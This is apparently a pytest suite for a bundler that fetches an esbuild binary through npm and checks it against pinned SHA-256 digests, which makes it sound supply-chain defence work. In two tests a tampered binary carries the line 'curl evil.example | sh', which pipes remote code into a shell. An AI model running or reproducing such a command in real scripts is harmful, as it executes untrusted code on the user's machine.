from __future__ import annotations

import hashlib
import io
import os
import shutil
import stat
import tarfile
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path

import pytest

from lambdad.bundler.esbuild import binary
from lambdad.bundler.esbuild.binary import DIGESTS, VERSION, find, host_platform
from lambdad.bundler.model import BundlerError
from lambdad.bundler.store.store import Store
from lambdad.bundler.workshop import Workshop
from tests.conftest import workshop_at
from tests.support.esbuild_cases import binary_path

NPM = """\
#!/bin/sh
echo "$@" >> "$LOG"
[ -n "$FAILS" ] && {{ echo "npm error strange" >&2; exit 1; }}
while [ "$1" != --pack-destination ]; do shift; done
cp "{archive}" "$2/esbuild.tgz"
"""


FAKE = b"#!/bin/sh\necho fake esbuild\n"


@pytest.fixture
def workshop(tmp_path: Path) -> Workshop:
    """An empty project with an empty store."""
    return workshop_at(tmp_path / "project", Store(tmp_path / "store"))


@pytest.fixture
def with_npm(workshop: Workshop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workshop:
    """A machine whose npm fetches a small program that our table vouches for."""
    archive = tmp_path / "package.tgz"
    with tarfile.open(archive, "w:gz") as tar:
        for name in ("package/package.json", "package/bin/esbuild"):
            member = tarfile.TarInfo(name)
            member.size = len(FAKE)
            tar.addfile(member, io.BytesIO(FAKE))
    digest = hashlib.sha256(FAKE).hexdigest()
    monkeypatch.setattr(binary, "DIGESTS", dict.fromkeys(DIGESTS, digest))
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "npm").write_text(NPM.format(archive=archive))
    (tools / "npm").chmod(0o755)
    path = f"{tools}:/usr/bin:/bin"
    return replace(workshop, environ={"PATH": path, "LOG": str(tmp_path / "log")})


def install(package: Path, content: bytes = FAKE) -> None:
    (package / "bin").mkdir(parents=True)
    (package / "package.json").write_text(f'{{"version": "{VERSION}"}}')
    (package / "bin/esbuild").write_bytes(content)


def test_the_real_one_is_the_pinned_one() -> None:
    """What npm gives for this machine has the pinned digest."""
    assert os.access(binary_path(), os.X_OK)
    content = Path(binary_path()).read_bytes()
    assert hashlib.sha256(content).hexdigest() == DIGESTS[host_platform()]
    assert set(DIGESTS) == {"linux-x64", "linux-arm64", "darwin-x64", "darwin-arm64"}


@pytest.mark.parametrize("where", ["", "../", "../.pnpm"])
def test_the_projects_own_comes_first(where: str, with_npm: Workshop) -> None:
    """An installed esbuild of the version spares the fetch, from folders above and pnpm's layout
    too; once taken over it is needed no more."""
    root = Path(with_npm.root)
    if where == "../.pnpm":
        modules = root / "node_modules/.pnpm/esbuild@x/node_modules"
        (modules / "esbuild").mkdir(parents=True)
        (root / "node_modules/esbuild").symlink_to(modules / "esbuild")
    else:
        modules = root / where / "node_modules"
    install(modules / "@esbuild" / host_platform())
    found = Path(find(with_npm))
    assert found.read_bytes() == FAKE
    assert os.access(found, os.X_OK)
    assert found.is_relative_to(with_npm.store.root)
    shutil.rmtree(modules)
    assert find(with_npm) == str(found)
    assert not (root.parent / "log").exists()


def test_what_only_says_it_is_esbuild_is_not_run(with_npm: Workshop, tmp_path: Path) -> None:
    """A program in node_modules that is not esbuild's own, to the byte, is code of the project:
    nobody runs it, whatever version it claims."""
    false = FAKE + b"curl evil.example | sh\n"
    install(Path(with_npm.root, "node_modules/@esbuild", host_platform()), false)
    assert Path(find(with_npm)).read_bytes() == FAKE
    assert (tmp_path / "log").exists()


def test_fetched_once(with_npm: Workshop, tmp_path: Path) -> None:
    """npm is asked once; after that the store has it, offline too."""
    path = find(with_npm)
    assert os.stat(path).st_mode & stat.S_IXUSR
    assert find(replace(with_npm, offline=True)) == path
    assert find(replace(with_npm, environ={})) == path
    lines = (tmp_path / "log").read_text().splitlines()
    assert len(lines) == 1
    assert f"@esbuild/{host_platform()}@{VERSION}" in lines[0]
    assert "--ignore-scripts" in lines[0]


def test_a_store_that_others_filled(with_npm: Workshop, tmp_path: Path) -> None:
    """A program that lies there as esbuild is run only if it is esbuild, to the byte."""
    path = Path(find(with_npm))
    proof = path.with_name("proof.json").read_bytes()
    path.write_bytes(FAKE + b"curl evil.example | sh\n")
    assert Path(find(with_npm)) == path
    assert path.read_bytes() == FAKE
    assert len((tmp_path / "log").read_text().splitlines()) == 2
    theirs = replace(with_npm, store=Store(with_npm.store.root, b"t" * 32), offline=True)
    assert find(theirs) == str(path)
    assert path.with_name("proof.json").read_bytes() != proof
    path.write_bytes(b"evil")
    with pytest.raises(BundlerError, match="not on this machine yet"):
        find(theirs)


def test_read_once(with_npm: Workshop) -> None:
    """What was found to be esbuild is not read again while it lies there untouched."""
    path = Path(find(with_npm))
    find(with_npm)
    os.utime(path, ns=(0, path.stat().st_mtime_ns))
    find(with_npm)
    before = path.stat().st_atime_ns
    find(with_npm)
    assert path.stat().st_atime_ns == before


def test_two_at_once(with_npm: Workshop) -> None:
    """Many that fetch at the same time end with one whole binary and nothing beside it."""
    with ThreadPoolExecutor(6) as pool:
        paths = set(pool.map(lambda _: find(with_npm), range(6)))
    assert len(paths) == 1
    kept = with_npm.store.root / "esbuild"
    assert os.listdir(kept) == [f"{VERSION}-{host_platform()}"]
    # npm keeps its own cache in the store where the user's can't be written.
    assert set(os.listdir(with_npm.store.root)) <= {"caches", "esbuild"}


@pytest.mark.parametrize(
    ("change", "code", "text"),
    [
        ({"offline": True}, "esbuild-missing", "--offline"),
        ({"environ": {"PATH": "/nonexistent"}}, "esbuild-missing", "install Node.js"),
        ({"FAILS": "1"}, "esbuild-missing", "strange"),
    ],
)
def test_what_can_go_wrong(
    change: dict[str, object], code: str, text: str, with_npm: Workshop
) -> None:
    """Without network or npm the error says what to do; nothing half-made stays."""
    if "FAILS" in change:
        change = {"environ": {**with_npm.environ, "FAILS": "1"}}
    with pytest.raises(BundlerError) as caught:
        find(replace(with_npm, **change))  # type: ignore[arg-type]
    assert caught.value.code == code
    assert text in f"{caught.value.message} {caught.value.hint}"
    assert not (with_npm.store.root / "esbuild").exists() or not os.listdir(
        with_npm.store.root / "esbuild"
    )


@pytest.mark.parametrize("archive", ["other", "no archive", "without it"])
def test_a_false_archive_is_refused(with_npm: Workshop, tmp_path: Path, archive: str) -> None:
    """What is not esbuild to the byte never reaches the store."""
    place = tmp_path / "package.tgz"
    if archive == "no archive":
        place.write_bytes(b"\x1f\x8b404 Not Found")
    else:
        name = "package/bin/esbuild" if archive == "other" else "package/bin/other"
        with tarfile.open(place, "w:gz") as tar:
            tar.addfile(tarfile.TarInfo(name), io.BytesIO())
    with pytest.raises(BundlerError) as caught:
        find(with_npm)
    assert caught.value.code == "esbuild-corrupt"
    assert not (with_npm.store.root / "esbuild").exists()


def test_an_odd_machine_is_told(workshop: Workshop, monkeypatch: pytest.MonkeyPatch) -> None:
    """A platform without a pinned binary is an error that names those there are."""
    monkeypatch.setattr("platform.machine", lambda: "riscv64")
    with pytest.raises(BundlerError) as caught:
        find(workshop)
    assert caught.value.code == "esbuild-platform"
    assert "riscv64" in caught.value.message
